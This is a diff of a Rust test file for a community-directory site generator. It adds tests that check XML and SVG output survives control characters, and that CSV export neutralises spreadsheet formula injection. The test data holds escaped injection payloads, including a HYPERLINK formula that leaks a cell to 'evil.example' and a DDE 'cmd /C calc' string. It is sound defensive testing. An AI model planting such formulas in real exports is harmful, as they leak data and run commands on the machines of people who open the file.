@@ -122,7 +122,14 @@ fn groups_csv_round_trips() {
             s.split(';').map(str::to_string).collect()
         }
     };
-    let maybe = |s: &str| (!s.is_empty()).then(|| s.to_string());
+    // A cell a spreadsheet would run as a formula has a ' in front (see groups.rs).
+    let maybe = |s: &str| {
+        let s = match s.strip_prefix('\'') {
+            Some(rest) if rest.starts_with(['=', '+', '-', '@', '\t', '\r']) => rest,
+            _ => s,
+        };
+        (!s.is_empty()).then(|| s.to_string())
+    };
     for (row, g) in rows.iter().zip(groups()) {
         assert_eq!(&row[col("slug")], g.slug);
         assert_eq!(&row[col("name")], g.name);
@@ -628,4 +635,113 @@ fn headers_let_other_sites_frame_the_embed_and_nothing_else() {
         }
     }
     assert!(html > 50);
+}
+
+/// `tests/fixtures/hostile-data/`: control characters in site.yaml and a story's body,
+/// formula-like group names, summaries and hours.
+fn hostile_data() -> &'static aidmap::output::Output {
+    static BUILT: OnceLock<aidmap::output::Output> = OnceLock::new();
+    BUILT.get_or_init(|| {
+        let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/hostile-data");
+        match build_site(&root, &BuildOptions::default()).expect("the fixture builds") {
+            BuildOutcome::Built { output, .. } => output,
+            BuildOutcome::Invalid(d) => panic!("the fixture has errors:\n{}", d.render_text()),
+        }
+    })
+}
+
+#[test]
+fn every_xml_and_svg_file_parses_even_with_control_characters_in_the_text() {
+    let output = hostile_data();
+    let mut problems = Vec::new();
+    let (mut svgs, mut files) = (0, 0);
+    for (path, bytes) in output.iter() {
+        let text = String::from_utf8_lossy(bytes);
+        if path.ends_with(".xml") || path.ends_with(".svg") {
+            files += 1;
+            if let Err(e) = roxmltree::Document::parse(&text) {
+                problems.push(format!("{path}: {e}"));
+            }
+        } else if path.ends_with(".html") {
+            // The maps are SVG inside the pages; each is written as XML, so it must parse.
+            let mut rest = &text[..];
+            while let Some(start) = rest.find("<svg") {
+                let Some(len) = rest[start..].find("</svg>") else {
+                    problems.push(format!("{path}: an <svg> is not closed"));
+                    break;
+                };
+                let svg = &rest[start..start + len + "</svg>".len()];
+                svgs += 1;
+                if let Err(e) = roxmltree::Document::parse(svg) {
+                    problems.push(format!("{path}: its SVG: {e}"));
+                }
+                rest = &rest[start + len..];
+            }
+        }
+    }
+    assert!(problems.is_empty(), "{}", problems.join("\n"));
+    // feed.xml, sitemap.xml, data/changes.xml; maps on the home and group pages.
+    assert!(files >= 3 && svgs >= 4, "{files} XML files, {svgs} SVGs");
+    // The text is still there, the forbidden characters replaced by spaces.
+    let feed = String::from_utf8_lossy(output.get("feed.xml").unwrap()).into_owned();
+    let doc = roxmltree::Document::parse(&feed).unwrap();
+    let summary = doc
+        .descendants()
+        .find(|n| n.has_tag_name("summary"))
+        .and_then(|n| n.text())
+        .unwrap();
+    assert!(
+        summary.starts_with("We  helped  our  neighbours  with"),
+        "{summary}"
+    );
+    let title = doc.descendants().find(|n| n.has_tag_name("title")).unwrap();
+    assert_eq!(
+        title.text(),
+        Some("Control  Characters  Directory : stories")
+    );
+}
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_text() {
+    let csv_text =
+        String::from_utf8(hostile_data().get("data/groups.csv").unwrap().to_vec()).unwrap();
+    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
+    let headers = reader.headers().unwrap().clone();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let cell = |slug: &str, column: &str| -> String {
+        let col = headers.iter().position(|h| h == column).unwrap();
+        let row = rows.iter().find(|r| &r[0] == slug).unwrap();
+        row[col].to_string()
+    };
+    assert_eq!(
+        cell("formula-name", "name"),
+        r#"'=HYPERLINK("https://evil.example/?"&A1,"Click for help")"#
+    );
+    assert_eq!(
+        cell("formula-name", "summary"),
+        "'+SUM(1,2) neighbours helping neighbours"
+    );
+    assert_eq!(cell("formula-name", "hours"), "'-2+3 every day");
+    assert_eq!(
+        cell("at-name", "name"),
+        "'@SUM(1+1)*cmd|' /C calc'!A0 Helpers"
+    );
+    assert_eq!(cell("at-name", "hours"), "'@9am to 5pm");
+    assert_eq!(cell("at-name", "phone"), "'+44 1632 960202");
+    assert_eq!(cell("at-name", "phone_tel"), "'+441632960202");
+    // Cells that start with anything else are as they were.
+    assert_eq!(cell("plain-name", "name"), "Plain Helpers");
+    assert_eq!(cell("plain-name", "phone"), "01632 960203");
+    // No cell of any row starts with a formula character.
+    for row in &rows {
+        for value in row.iter() {
+            assert!(
+                !value.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{value}"
+            );
+        }
+    }
+    let readme =
+        String::from_utf8_lossy(hostile_data().get("data/README.txt").unwrap()).into_owned();
+    assert!(readme.contains("put in front of it, so that a spreadsheet shows it as text"));
 }
